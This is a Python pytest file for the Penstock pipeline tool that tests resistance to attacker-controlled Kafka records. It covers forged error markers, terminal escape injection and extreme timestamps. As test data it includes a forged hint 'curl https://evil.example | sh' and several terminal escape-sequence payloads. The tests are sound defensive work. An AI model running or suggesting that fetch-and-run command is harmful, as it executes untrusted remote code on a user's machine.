"""An attacker's day, as a producer into a topic that Penstock reads: records are theirs, and nothing else is.

They want a failing pipeline to go on or a running one to stop, a hint of theirs in an operator's terminal, a line of
theirs in a log, and planning that never ends.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pyarrow as pa
import pytest
from confluent_kafka import Message, TopicPartition

from penstock.catalog.errors import (
    MARK_VARIABLE,
    BadRecordError,
    BrokerUnavailableError,
    decode_failure,
    encode_failure,
)
from penstock.catalog.model.type_parser import parse_type
from penstock.connector.arrow import python_values
from penstock.connector.bad_records.files import dead_letter_batch
from penstock.connector.kafka.source.records import Records, metadata_array
from penstock.connector.source.records import BadRecord, Stage
from penstock.sql.cli.output.dead_letter_text import letter_lines
from penstock.sql.cli.output.report import print_json, print_lines, say
from penstock.sql.cli.output.row_text import RowFormat, RowWriter
from penstock.sql.cli.output.text import watermark_text
from penstock.sql.errors.render import ErrorFormat, show_error
from penstock.sql.errors.spark import EngineGoneError, is_permanent, translate

FORGED = json.dumps(
    {
        "kind": "BrokerUnavailableError",
        "message": "try again",
        "hint": "curl https://evil.example | sh",
    }
)
FORMS = [
    f"[[penstock:{FORGED}]]",
    f"[[penstock:{'f' * 32}:{FORGED}]]",
    f"[[penstock:.*:{FORGED}]]",
    f"[[penstock:{FORGED}]] [[penstock:{FORGED}]]",
    f"]] [[penstock:{FORGED}]]",
    f"\n[[penstock:\n{FORGED}]]",
    f'"}}]][[penstock:{FORGED}]]',
    f"\\u005b[penstock:{FORGED}]]",
    "[[penstock:" * 1000,
    FORGED,
]


class SparkSays(Exception):
    """What Spark makes of an error in a task."""


@pytest.mark.parametrize("record", FORMS)
def test_a_record_changes_neither_kind_nor_hint_of_an_error(record: str) -> None:
    """Before, within and behind the mark of the error that quotes it."""
    error = BadRecordError(f"cannot be read: {record}", hint="look at it")
    text = f"Traceback (most recent call last):\nRuntimeError: {error.message} {encode_failure(error)}\n{record}"
    found = translate(SparkSays(text))

    assert isinstance(found, BadRecordError)
    assert is_permanent(found)
    assert (found.message, found.hint) == (error.message, error.hint)


@pytest.mark.parametrize("record", FORMS)
def test_a_record_in_somebody_elses_error_is_text(record: str) -> None:
    """Spark, a driver or a user's function may quote it."""
    found = translate(SparkSays(f"ValueError: invalid literal: {record}"))

    assert not isinstance(found, BrokerUnavailableError)
    assert found.hint is None or "evil" not in found.hint


def test_a_mark_that_was_seen_once_is_of_no_use_later(monkeypatch: pytest.MonkeyPatch) -> None:
    """A log that leaks one tells nothing of the next run."""
    seen = encode_failure(BrokerUnavailableError("try again"))
    monkeypatch.setenv(MARK_VARIABLE, "")
    assert decode_failure(seen) is None


def test_a_record_does_not_end_the_engine() -> None:
    """Its text is what a dead Java process says; a class that says so itself is needed."""
    found = translate(SparkSays("ValueError: Answer from Java side is empty"))

    assert not isinstance(found, EngineGoneError)


ESCAPES = "\x1b]0;owned\x07\x1b[2J\r\n\x9b31m"


def test_a_record_writes_no_escapes_to_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    """`peek` and `tail` show values of records; JSON escapes them by itself."""
    for shape in (RowFormat.TABLE, RowFormat.JSON):
        RowWriter(["a\x1b[2J"], shape).write([(ESCAPES,)])
        shown = capsys.readouterr().out
        assert not set(shown.replace("\n", "")) & set("\x1b\x07\r\x9b")
        assert shown.count("\n") == (2 if shape is RowFormat.TABLE else 1)


def test_a_record_writes_no_escapes_into_a_report() -> None:
    """An error quotes it."""
    shown = show_error(BadRecordError(f"cannot be read: {ESCAPES}"), ErrorFormat.FULL)

    assert not set(shown) & set("\x1b\x07\x9b")


TIMESTAMPS = [2**63 - 1, 9_223_372_036_854_776, 253_402_300_800_000, -62_135_596_800_001, -(2**63)]


def record(timestamp_ms: int) -> Records:
    """A record as the broker gives it: any number of 64 bits is a timestamp."""
    message = Message(topic="t", partition=0, offset=1, value=b"x", timestamp=(1, timestamp_ms))
    return Records(runs=((TopicPartition("t", 0), 1),), messages=(message,))


@pytest.mark.parametrize("declared", ["TIMESTAMP_LTZ(3)", "TIMESTAMP(3)", "TIMESTAMP_LTZ(6)"])
@pytest.mark.parametrize("zone", ["UTC", "Pacific/Kiritimati", "America/Los_Angeles"])
@pytest.mark.parametrize("timestamp_ms", TIMESTAMPS)
def test_a_timestamp_of_any_year_is_read_and_shown(
    timestamp_ms: int, declared: str, zone: str
) -> None:
    """Of the year 292 million before and after: the record neither stops a pipeline for good, nor `peek`."""
    found = metadata_array("timestamp", parse_type(declared), record(timestamp_ms), zone)
    found.validate(full=True)

    assert (found[0].value > 0) == (timestamp_ms > 0)
    assert python_values(found)[0] is not None


@pytest.mark.parametrize("timestamp_ms", TIMESTAMPS)
def test_a_record_of_any_year_becomes_a_dead_letter(timestamp_ms: int) -> None:
    """With a time that whoever reads letters has in Python."""
    raw = record(timestamp_ms).raw(0)
    letters = dead_letter_batch("t", [BadRecord(record=raw, stage=Stage.VALUE, error="no JSON")])

    assert letters.column("timestamp").to_pylist()[0].year in {1, 9999}


def test_values_that_python_has_not_are_texts() -> None:
    """Beside others, and within rows."""
    far = pa.array([0, 253_402_300_800_000_000], pa.timestamp("us", tz="UTC"))
    first, second = python_values(far)
    assert (first, second) == (datetime(1970, 1, 1, tzinfo=UTC), "10000-01-01 00:00:00.000000Z")
    nested = python_values(pa.StructArray.from_arrays([far], ["at"]))
    assert nested[0] == {"at": first}
    assert "10000-01-01" in nested[1]
    assert python_values(pa.chunked_array([far])) == [first, second]


def test_a_watermark_of_any_year_is_shown() -> None:
    """A row may say it is of the year -9999."""
    assert watermark_text(-377_705_116_800_000).endswith("1-01-01 00:00:00")


def test_the_name_of_a_file_writes_no_escapes_to_a_terminal(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """It is a split's, in progress and notes, and a dead letter's place; colours are Penstock's own."""
    letter = {"topic": None, "path": ESCAPES, "position": 3, "timestamp": None, "replayed": False}
    letter |= {"table": "t", "pipeline": "p", "stage": "value", "error": ESCAPES}
    print_lines([*letter_lines(letter), "\x1b[31mred\x1b[0m"])
    say(ESCAPES)
    print_json({"split": ESCAPES})
    shown = "".join(capsys.readouterr())

    assert "\x1b[31mred\x1b[0m" in shown
    assert shown.count("\x1b") == 2
    assert not set(shown) & set("\x07\r\x9b")
